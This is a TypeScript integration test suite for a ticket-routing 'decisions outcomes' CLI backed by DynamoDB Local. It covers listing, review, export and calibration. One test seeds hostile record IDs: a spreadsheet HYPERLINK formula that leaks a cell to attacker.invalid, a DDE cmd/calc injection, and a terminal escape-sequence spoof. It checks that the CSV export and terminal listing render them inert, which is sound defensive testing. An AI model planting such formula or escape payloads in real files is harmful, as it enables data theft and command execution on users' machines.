/**
 * `decisions outcomes list|show|export|review` against DynamoDB Local on 127.0.0.1 with the real
 * outcomes table definition, outcomes decided by the real ticket-routing policy, and the labelled
 * export read back by `decisions calibrate`'s reader.
 */
import assert from "node:assert/strict";
import { copyFile, mkdtemp, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { fileURLToPath } from "node:url";
import { CreateTableCommand, DynamoDBClient } from "@aws-sdk/client-dynamodb";
import { DynamoDBDocumentClient, PutCommand } from "@aws-sdk/lib-dynamodb";
import { createCalibrateCommand } from "../../../cli/commands/calibrateCommand.js";
import { createOutcomesCommand } from "../../../cli/commands/outcomesCommand.js";
import { UsageError } from "../../../cli/errors.js";
import {
  type Outcome,
  OutcomeSchema,
  outcomesTableDefinition,
  ReviewAnswerError,
  ReviewConflictError,
} from "../../../core/outcomes/index.js";
import { applyPolicy, loadPolicies, type Policy } from "../../../core/policy/index.js";
import { collectForecasts } from "../../../evaluation/calibration/collectForecasts.js";
import { readLabelledDecisions } from "../../../evaluation/calibration/readLabelledDecisions.js";
import { type DynamoDbLocal, startDynamoDbLocal } from "../../../local/services/startDynamoDbLocal.js";
import { LOCAL_CREDENTIALS } from "../../../local/stack/createLocalClients.js";
import { parseCsv } from "../../support/parseCsv.js";

const POLICIES = fileURLToPath(new URL("../../../policies/", import.meta.url));

function capture() {
  let out = "";
  let err = "";
  const command = createOutcomesCommand({
    stdout: { write: (text: string) => (out += text) },
    stderr: { write: (text: string) => (err += text) },
  });
  return { command, stdout: () => out, stderr: () => err };
}

/** An outcome of ticket-routing decided by the real policy on the given model probabilities. */
function outcomeOf(
  policy: Policy,
  id: string,
  at: string,
  queue: Record<string, number>,
  facts = {},
  priority: Record<string, number> = { P1: 0.05, P2: 0.8, P3: 0.1, P4: 0.05 },
): Outcome {
  const labels = [
    "billing",
    "technical_support",
    "account_access",
    "orders_shipping",
    "sales",
    "security",
    "legal",
    "triage",
  ];
  const decision = applyPolicy(policy, facts, {
    queue: {
      type: "choice",
      probabilities: Object.fromEntries(labels.map((label) => [label, queue[label] ?? 0])),
    },
    priority: { type: "choice", probabilities: priority },
    needs_human: { type: "noul", noul: 0.9 },
  });
  return OutcomeSchema.parse({
    policy: policy.name,
    id,
    policy_status: `${policy.name}#${decision.status}`,
    status: decision.status,
    ...(decision.reason ? { reason: decision.reason } : {}),
    answers: decision.answers,
    rules_fired: decision.rules_fired,
    policy_version: policy.version,
    policy_sha256: policy.sha256,
    model: "tiny-qwen3",
    source: { kind: "sqs", message_id: `m-${id}`, receive_count: 1 },
    created_at: at,
    updated_at: at,
    state_preview: `ticket ${id}, "quoted", with a comma`,
  });
}

describe("decisions outcomes (DynamoDB Local)", () => {
  let ddbLocal: DynamoDbLocal;
  let doc: DynamoDBDocumentClient;
  let policy: Policy;
  let dir: string;
  let tables = 0;
  let endpoint: string[];

  /** A fresh outcomes table holding: three fallback items (t-1 oldest), one decided, one rejected. */
  const seeded = async (): Promise<string[]> => {
    tables += 1;
    const table = `outcomes-${tables}`;
    await doc.send(new CreateTableCommand(outcomesTableDefinition(table)));
    const unsure = { billing: 0.3, technical_support: 0.25, triage: 0.45 };
    const outcomes = [
      outcomeOf(policy, "t-1", "2026-12-01T10:00:00.000Z", unsure),
      outcomeOf(policy, "t-2", "2026-12-01T10:00:02.000Z", unsure),
      outcomeOf(policy, "t-3", "2026-12-01T10:00:01.000Z", unsure),
      outcomeOf(policy, "t-4", "2026-12-01T10:00:03.000Z", { billing: 0.97, triage: 0.03 }),
      {
        ...outcomeOf(policy, "t-5", "2026-12-01T10:00:04.000Z", unsure),
        status: "rejected",
        policy_status: `${policy.name}#rejected`,
        reason: "facts: bad",
      },
    ] as Outcome[];
    assert.deepEqual(
      outcomes.map((outcome) => outcome.status),
      ["fallback", "fallback", "fallback", "decided", "rejected"],
    );
    for (const outcome of outcomes) await doc.send(new PutCommand({ TableName: table, Item: outcome }));
    return ["--table", table, ...endpoint, "--policy", policy.name, "--policies", POLICIES];
  };

  /**
   * Runs `decisions calibrate` on a labelled export against a copy of the policy (a report only: the
   * policy file itself is never rewritten), with its stdout and stderr together as the report.
   */
  const calibrateCopy = async (labelled: string, name: string): Promise<{ code: number; report: string }> => {
    const policyCopy = join(dir, `ticket-routing-${name}.yaml`);
    await copyFile(policy.file, policyCopy);
    let report = "";
    const collect = (text: string): boolean => {
      report += text;
      return true;
    };
    const calibrate = createCalibrateCommand({ stdout: { write: collect }, stderr: { write: collect } });
    const code = await calibrate.run([
      labelled,
      "--policy",
      policyCopy,
      "--out",
      join(dir, `calibration-${name}`),
    ]);
    return { code, report };
  };

  before(async () => {
    ddbLocal = await startDynamoDbLocal({ env: process.env });
    endpoint = ["--endpoint-url", ddbLocal.endpoint];
    doc = DynamoDBDocumentClient.from(
      new DynamoDBClient({
        endpoint: ddbLocal.endpoint,
        region: "us-east-1",
        credentials: LOCAL_CREDENTIALS,
      }),
    );
    const loaded = await loadPolicies(POLICIES);
    policy = loaded.get("ticket-routing") as Policy;
    dir = await mkdtemp(join(tmpdir(), "outcomes-"));
  });

  after(async () => {
    doc?.destroy();
    await ddbLocal?.stop();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  it("lists the review queue newest first through the index, up to --limit", async () => {
    const table = await seeded();
    const { command, stdout } = capture();

    const code = await command.run(["list", ...table, "--status", "fallback", "--limit", "2", "--json"]);

    assert.equal(code, 0);
    const ids = stdout()
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line).id);
    assert.deepEqual(ids, ["t-2", "t-3"]);
  });

  it("lists every status merged newest first, readably", async () => {
    const table = await seeded();
    const { command, stdout } = capture();

    await command.run(["list", ...table]);

    const rows = stdout().trim().split("\n");
    assert.match(rows[0] ?? "", /^5 newest outcome\(s\) of ticket-routing:$/);
    assert.deepEqual(
      rows.slice(1).map((row) => row.split(/\s+/)[2]),
      ["t-5", "t-4", "t-2", "t-3", "t-1"],
    );
    assert.match(rows[3] ?? "", /fallback\s+t-2\s+.*queue=triage \(fallback, P=0\.\d\d\)/);
  });

  it("lists the review queue by margin or entropy as the console does: audit items first, windows of --window, and says so", async () => {
    tables += 1;
    const name = `outcomes-${tables}`;
    await doc.send(new CreateTableCommand(outcomesTableDefinition(name)));
    // Oldest to newest: nearest the queue's 0.55 threshold first (after the policy's temperature), the most spread last.
    const queues = [
      { triage: 0.54, billing: 0.3, sales: 0.16 },
      { triage: 0.5, billing: 0.4, sales: 0.1 },
      { triage: 0.4, billing: 0.35, sales: 0.25 },
      { triage: 0.34, billing: 0.33, sales: 0.33 },
    ];
    for (const [index, queue] of queues.entries())
      await doc.send(
        new PutCommand({
          TableName: name,
          Item: outcomeOf(policy, `w-${index}`, `2026-12-01T10:00:0${index}.000Z`, queue),
        }),
      );
    // A decided item drawn for audit waits in the queue too (the console lists it first); a decided
    // item that is not waiting is no part of the queue.
    const decided = outcomeOf(policy, "d-sure", "2026-12-01T10:00:05.000Z", { billing: 0.97, triage: 0.03 });
    await doc.send(new PutCommand({ TableName: name, Item: decided }));
    const audited = outcomeOf(policy, "a-1", "2026-12-01T09:00:00.000Z", { billing: 0.99, triage: 0.01 });
    await doc.send(
      new PutCommand({
        TableName: name,
        Item: { ...audited, policy_status: `${policy.name}#audit`, audit: { rate: 0.05, draw: 0.01 } },
      }),
    );
    const table = ["--table", name, ...endpoint, "--policy", policy.name];
    const ids = (text: string) =>
      text
        .trim()
        .split("\n")
        .slice(1)
        .map((row) => row.split(/\s+/)[2]);

    const newest = capture();
    await newest.command.run(["list", ...table, "--status", "fallback"]);
    const margin = capture();
    await margin.command.run(["list", ...table, "--order", "margin"]);
    const entropy = capture();
    await entropy.command.run(["list", ...table, "--order", "entropy", "--window", "3"]);

    assert.deepEqual(ids(newest.stdout()), ["w-3", "w-2", "w-1", "w-0"]);
    assert.deepEqual(ids(margin.stdout()), ["a-1", "w-0", "w-1", "w-2", "w-3"]);
    assert.match(
      margin.stdout(),
      /5 item\(s\) of the review queue of ticket-routing by margin \(audit items first, as the console orders them\), ordered over the whole queue \(5 waiting\)/,
    );
    assert.match(margin.stdout(), /w-0\s+margin 0\.0\d\d {2}/);
    // A window of 3 orders the three newest waiting, then the next window: the older w-0 and a-1.
    assert.deepEqual(ids(entropy.stdout()).slice(0, 2), ["w-3", "w-2"]);
    assert.deepEqual(ids(entropy.stdout()).slice(3).sort(), ["a-1", "w-0"]);
    assert.match(entropy.stdout(), /ordered over the newest --window 3 waiting first, then older windows/);
    await assert.rejects(
      capture().command.run(["list", ...table, "--status", "fallback", "--order", "margin"]),
      (error: unknown) =>
        error instanceof UsageError &&
        /--order margin lists the review queue .*leave out --status/.test(error.message),
    );
    await assert.rejects(
      capture().command.run(["list", ...table, "--order", "oldest"]),
      (error: unknown) => error instanceof UsageError && /newest, margin, entropy/.test(error.message),
    );
  });

  it("lists a rule's answer with the model's probability of that answer, not of the model's own", async () => {
    tables += 1;
    const table = `outcomes-${tables}`;
    await doc.send(new CreateTableCommand(outcomesTableDefinition(table)));
    const held = outcomeOf(
      policy,
      "t-legal",
      "2026-12-01T11:00:00.000Z",
      { billing: 0.907, legal: 0.093 },
      { legal_hold: true },
    );
    assert.equal(held.answers?.queue?.source, "rule");
    await doc.send(new PutCommand({ TableName: table, Item: held }));
    const { command, stdout } = capture();

    await command.run(["list", "--table", table, "--policy", policy.name, ...endpoint]);

    // The calibrated distribution's probability of "legal", whatever the model's own answer had.
    const own = held.answers?.queue?.distribution.legal ?? Number.NaN;
    assert.ok(own < 0.5, "legal is not the model's own answer");
    assert.ok(stdout().includes(`queue=legal (rule, P=${own.toFixed(2)})`), stdout());
  });

  it("shows one outcome as stored", async () => {
    const table = await seeded();
    const { command, stdout } = capture();

    await command.run(["show", "t-4", ...table]);

    const shown = JSON.parse(stdout());
    assert.equal(shown.status, "decided");
    assert.equal(shown.answers.queue.answer, "billing");
  });

  it("records a review: the person's answer stands, the model's is kept, the status is reviewed", async () => {
    const table = await seeded();
    const { command, stdout } = capture();

    const code = await command.run(["review", "t-1", ...table, "--set", "queue=billing", "--by", "ana"]);

    assert.equal(code, 0);
    assert.match(
      stdout(),
      /^reviewed ticket-routing\/t-1: queue=billing \(model: triage, was triage\); status reviewed \(was fallback\)/,
    );
    const shown = capture();
    await shown.command.run(["show", "t-1", ...table]);
    const outcome = JSON.parse(shown.stdout());
    assert.equal(outcome.status, "reviewed");
    assert.equal(outcome.policy_status, "ticket-routing#reviewed");
    assert.deepEqual(
      {
        answer: outcome.answers.queue.answer,
        source: outcome.answers.queue.source,
        model: outcome.answers.queue.model_answer,
      },
      { answer: "billing", source: "human", model: "triage" },
    );
    const seededQueue = outcomeOf(policy, "t-1", "2026-12-01T10:00:00.000Z", {
      billing: 0.3,
      technical_support: 0.25,
      triage: 0.45,
    }).answers?.queue;
    assert.deepEqual(
      [outcome.answers.queue.probability, outcome.answers.queue.distribution],
      [seededQueue?.probability, seededQueue?.distribution],
      "the model's probability and distribution stay",
    );
    assert.equal(outcome.review.by, "ana");
    assert.equal(outcome.review.previous_status, "fallback");
    assert.equal(outcome.review.previous_updated_at, "2026-12-01T10:00:00.000Z");
    assert.ok(outcome.updated_at > "2026-12-01T10:00:00.000Z");
    const queue = capture();
    await queue.command.run(["list", ...table, "--status", "fallback", "--json"]);
    assert.ok(!queue.stdout().includes('"id":"t-1"'), "no longer in the fallback queue");
  });

  it("keeps a partially reviewed item in the review queue until every fallback question has an answer", async () => {
    const table = await seeded();
    const tableName = table[1] ?? "";
    const twoOpen = outcomeOf(
      policy,
      "t-6",
      "2026-12-01T10:00:05.000Z",
      { billing: 0.3, technical_support: 0.25, triage: 0.45 },
      {},
      { P1: 0.3, P2: 0.3, P3: 0.2, P4: 0.2 },
    );
    assert.deepEqual(
      Object.entries(twoOpen.answers ?? {})
        .filter(([, answer]) => answer.source === "fallback")
        .map(([qid]) => qid),
      ["queue", "priority"],
    );
    await doc.send(new PutCommand({ TableName: tableName, Item: twoOpen }));
    const first = capture();

    await first.command.run(["review", "t-6", ...table, "--set", "queue=billing", "--by", "ana"]);

    assert.match(first.stdout(), /partial review: priority still has no person's answer/);
    const shown = capture();
    await shown.command.run(["show", "t-6", ...table]);
    const partial = JSON.parse(shown.stdout());
    assert.equal(partial.status, "fallback");
    assert.equal(partial.policy_status, "ticket-routing#fallback");
    assert.equal(partial.answers.queue.source, "human");
    assert.equal(partial.answers.priority.source, "fallback");
    assert.deepEqual(partial.review.remaining, ["priority"]);
    assert.match(
      shown.stderr(),
      /reviewed by ana: queue=billing \(was triage\) → partial, still open: priority/,
    );
    const waiting = capture();
    await waiting.command.run(["list", ...table, "--status", "fallback", "--json"]);
    assert.ok(waiting.stdout().includes('"id":"t-6"'), "still in the fallback queue");

    const second = capture();
    await second.command.run(["review", "t-6", ...table, "--set", "priority=P1", "--by", "bob"]);

    assert.doesNotMatch(second.stdout(), /partial/);
    const done = capture();
    await done.command.run(["show", "t-6", ...table]);
    const reviewed = JSON.parse(done.stdout());
    assert.equal(reviewed.status, "reviewed");
    assert.equal(reviewed.policy_status, "ticket-routing#reviewed");
    assert.deepEqual(
      reviewed.reviews.map((review: { by: string; answers: object }) => [review.by, review.answers]),
      [
        ["ana", { queue: "billing" }],
        ["bob", { priority: "P1" }],
      ],
    );
    assert.equal(reviewed.answers.queue.answer, "billing", "the first reviewer's answer stays");
    const history = done.stderr().trim().split("\n");
    assert.equal(history.length, 4, done.stderr());
    assert.match(history[1] ?? "", /fallback by tiny-qwen3/);
    assert.match(history[3] ?? "", /reviewed by bob: priority=P1 \(was P2\) → reviewed$/);
    const after = capture();
    await after.command.run(["list", ...table, "--status", "fallback", "--json"]);
    assert.ok(!after.stdout().includes('"id":"t-6"'), "out of the queue once every question has an answer");
  });

  it("keeps the first reviewer when a second one amends the item; without --amend it is refused", async () => {
    const table = await seeded();
    await capture().command.run(["review", "t-1", ...table, "--set", "queue=billing", "--by", "ana"]);
    await assert.rejects(
      capture().command.run(["review", "t-1", ...table, "--set", "queue=sales", "--by", "bob"]),
      { name: "AmendRequiredError" },
    );

    await capture().command.run([
      "review",
      "t-1",
      ...table,
      "--set",
      "queue=sales",
      "--by",
      "bob",
      "--amend",
    ]);

    const shown = capture();
    await shown.command.run(["show", "t-1", ...table]);
    const outcome = JSON.parse(shown.stdout());
    assert.equal(outcome.status, "reviewed");
    assert.equal(outcome.answers.queue.answer, "sales");
    assert.equal(outcome.answers.queue.model_answer, "triage", "the model's answer is still the model's");
    assert.equal(outcome.review.by, "bob");
    assert.deepEqual(
      outcome.reviews.map((review: { by: string; answers: object; previous_status: string }) => [
        review.by,
        review.answers,
        review.previous_status,
      ]),
      [
        ["ana", { queue: "billing" }, "fallback"],
        ["bob", { queue: "sales" }, "reviewed"],
      ],
    );
    assert.equal(outcome.reviews[1].previous_answers.queue.answer, "billing");
    assert.match(
      shown.stderr(),
      /reviewed by ana: queue=billing \(was triage\) → reviewed\n.*amended by bob: queue=sales \(was billing\) → reviewed/,
    );
  });

  it("refuses a review when the outcome changed since it was read", async () => {
    const table = await seeded();
    const first = capture();
    await first.command.run([
      "review",
      "t-2",
      ...table,
      "--set",
      "queue=sales",
      "--expect-updated-at",
      "2026-12-01T10:00:02.000Z",
    ]);
    const { command } = capture();

    await assert.rejects(
      command.run([
        "review",
        "t-2",
        ...table,
        "--set",
        "queue=legal",
        "--expect-updated-at",
        "2026-12-01T10:00:02.000Z",
      ]),
      ReviewConflictError,
    );

    const shown = capture();
    await shown.command.run(["show", "t-2", ...table]);
    assert.equal(JSON.parse(shown.stdout()).answers.queue.answer, "sales");
  });

  it("checks answers against the policy's questions, and refuses a rejected outcome", async () => {
    const table = await seeded();
    const { command } = capture();

    await assert.rejects(
      command.run(["review", "t-3", ...table, "--set", "queue=plumbing"]),
      ReviewAnswerError,
    );
    await assert.rejects(command.run(["review", "t-3", ...table, "--set", "mood=happy"]), ReviewAnswerError);
    await assert.rejects(
      command.run(["review", "t-3", ...table, "--set", "needs_human=maybe"]),
      ReviewAnswerError,
    );
    await assert.rejects(command.run(["review", "t-5", ...table, "--set", "queue=billing"]), /was rejected/);
    await assert.rejects(command.run(["review", "t-3", ...table]), UsageError);
    const shown = capture();
    await shown.command.run(["show", "t-3", ...table]);
    assert.equal(JSON.parse(shown.stdout()).status, "fallback");
  });

  it("exports JSONL and CSV of a policy", async () => {
    const table = await seeded();
    const jsonl = join(dir, `all-${tables}.jsonl`);
    const csv = join(dir, `fallback-${tables}.csv`);

    assert.equal(await capture().command.run(["export", ...table, "--out", jsonl]), 0);
    assert.equal(
      await capture().command.run([
        "export",
        ...table,
        "--status",
        "fallback",
        "--format",
        "csv",
        "--out",
        csv,
      ]),
      0,
    );

    const lines = (await readFile(jsonl, "utf8")).trim().split("\n");
    assert.deepEqual(lines.map((line) => JSON.parse(line).id).sort(), ["t-1", "t-2", "t-3", "t-4", "t-5"]);
    const rows = (await readFile(csv, "utf8")).split("\r\n").filter((row) => row !== "");
    assert.equal(rows.length, 4);
    assert.match(
      rows[0] ?? "",
      /^policy,id,status,updated_at,created_at,reason,queue,queue\.probability,queue\.source,queue\.model_answer,priority,/,
    );
    assert.match(rows[1] ?? "", /^ticket-routing,t-2,fallback,/);
    assert.match(rows[1] ?? "", /,"ticket t-2, ""quoted"", with a comma"$/);
  });

  it("exports ids that are spreadsheet formulas as text, and lists ids with ESC and CR inert", async () => {
    const table = await seeded();
    const tableName = table[1] ?? "";
    const hostile = [
      '=HYPERLINK("http://attacker.invalid/?leak="&A1,"open")',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "t-9\r\u001b[2Kdecided TOTALLY-LEGIT",
    ];
    for (const [index, id] of hostile.entries()) {
      const at = `2026-12-01T11:00:0${index}.000Z`;
      const stored = outcomeOf(policy, id, at, { billing: 0.3, triage: 0.45 });
      await doc.send(new PutCommand({ TableName: tableName, Item: stored }));
    }
    const csv = join(dir, `hostile-${tables}.csv`);

    const exported = await capture().command.run(["export", ...table, "--format", "csv", "--out", csv]);
    const listed = capture();
    await listed.command.run(["list", ...table]);

    assert.equal(exported, 0);
    const rows = parseCsv(await readFile(csv, "utf8"));
    const ids = rows.slice(1).map((row) => row[1] ?? "");
    assert.ok(ids.includes(`'${hostile[0]}`), "the HYPERLINK id is the text behind a quote mark");
    assert.ok(ids.includes(`'${hostile[1]}`), "the @SUM id is the text behind a quote mark");
    assert.deepEqual(
      rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell)),
      [],
      "no cell a spreadsheet would read as a formula",
    );
    assert.doesNotMatch(listed.stdout().replaceAll("\n", ""), /\p{Cc}/u, "no ESC or CR reaches the terminal");
    assert.match(listed.stdout(), /t-9\\r\\x1b\[2Kdecided TOTALLY-LEGIT/);
  });

  it("exports reviewed outcomes as labelled data that calibrate reads, with the temperature undone", async () => {
    const table = await seeded();
    await capture().command.run([
      "review",
      "t-1",
      ...table,
      "--set",
      "queue=billing",
      "--set",
      "priority=P1",
      "--by",
      "ana",
    ]);
    await capture().command.run(["review", "t-3", ...table, "--set", "needs_human=no"]);
    const out = join(dir, `labelled-${tables}.jsonl`);
    const { command, stderr } = capture();

    const code = await command.run(["export", ...table, "--labelled", "--out", out]);

    assert.equal(code, 0);
    assert.match(stderr(), /exported 2 labelled decision\(s\) of ticket-routing/);
    const lines = readLabelledDecisions(await readFile(out, "utf8"), out);
    const byId = new Map(lines.map(({ decision }) => [decision.id, decision]));
    assert.deepEqual(Object.keys(byId.get("t-1")?.questions ?? {}).sort(), ["priority", "queue"]);
    assert.equal(byId.get("t-1")?.questions.queue?.label, "billing");
    assert.equal(byId.get("t-1")?.questions.queue?.temperature, 1.3);
    assert.equal(byId.get("t-1")?.reviewed_by, "ana");
    assert.equal(byId.get("t-3")?.questions.needs_human?.label, false);
    const forecasts = collectForecasts(policy, lines);
    const raw = forecasts.questions.get("queue")?.[0]?.raw;
    assert.ok(raw !== undefined);
    assert.ok(
      Math.abs((raw.probabilities[raw.labels.indexOf("triage")] ?? 0) - 0.45) < 1e-9,
      "the model's own 0.45",
    );

    // …and `decisions calibrate` takes the export as it is (on a copy of the policy: a report only,
    // two items are too few to fit anything, which it says, exit code 1).
    const { code: calibrated, report } = await calibrateCopy(out, `${tables}`);
    assert.equal(calibrated, 1, report);
    assert.match(report, /## queue \(choice\): 1 labelled/);
    assert.match(report, /no question has enough labelled decisions to calibrate/);
  });

  it("exports reviewed audit items with their rate, and calibrate estimates the automated decisions' accuracy from them", async () => {
    const table = await seeded();
    const tableName = table[1] as string;
    // Two decided items the policy's audit_rate (0.25 here) sent to review: both answered billing.
    for (const [id, at] of [
      ["t-4", "2026-12-01T10:00:03.000Z"],
      ["t-6", "2026-12-01T10:00:05.000Z"],
    ] as const) {
      const decided = outcomeOf(policy, id, at, { billing: 0.97, triage: 0.03 });
      assert.equal(decided.status, "decided");
      await doc.send(
        new PutCommand({
          TableName: tableName,
          Item: { ...decided, policy_status: `${policy.name}#audit`, audit: { rate: 0.25, draw: 0.1 } },
        }),
      );
    }
    // A person confirms t-4's queue and corrects t-6's; the fallback t-1 is reviewed too.
    await capture().command.run(["review", "t-4", ...table, "--set", "queue=billing", "--by", "ana"]);
    await capture().command.run(["review", "t-6", ...table, "--set", "queue=security", "--by", "ana"]);
    await capture().command.run(["review", "t-1", ...table, "--set", "queue=billing", "--by", "ana"]);
    const out = join(dir, `labelled-audit-${tables}.jsonl`);

    const code = await capture().command.run(["export", ...table, "--labelled", "--out", out]);

    assert.equal(code, 0);
    const lines = readLabelledDecisions(await readFile(out, "utf8"), out);
    const byId = new Map(lines.map(({ decision }) => [decision.id, decision]));
    assert.deepEqual(byId.get("t-4")?.audit, { rate: 0.25 });
    assert.deepEqual(byId.get("t-6")?.audit, { rate: 0.25 });
    assert.equal(byId.get("t-1")?.audit, undefined, "a fallback carries no audit rate");
    const queue = collectForecasts(policy, lines).questions.get("queue") ?? [];
    assert.deepEqual(queue.map((forecast) => [forecast.id, forecast.weight]).sort(), [
      ["t-1", 1],
      ["t-4", 4],
      ["t-6", 4],
    ]);

    const { report } = await calibrateCopy(out, `audit-${tables}`);
    // 1 of 2 confirmed: 0.5, Wilson's 95 % interval for 1 of 2 is [0.0945, 0.9055].
    assert.match(
      report,
      /## queue \(choice\): 3 labelled \(2 of them audit items, weighted 1\/audit_rate\)[\s\S]*Accuracy of automated decisions \(from 2 audit items, 1 confirmed\): 0\.5000, 95 % Wilson interval \[0\.0945, 0\.9055\]/,
    );
  });
});
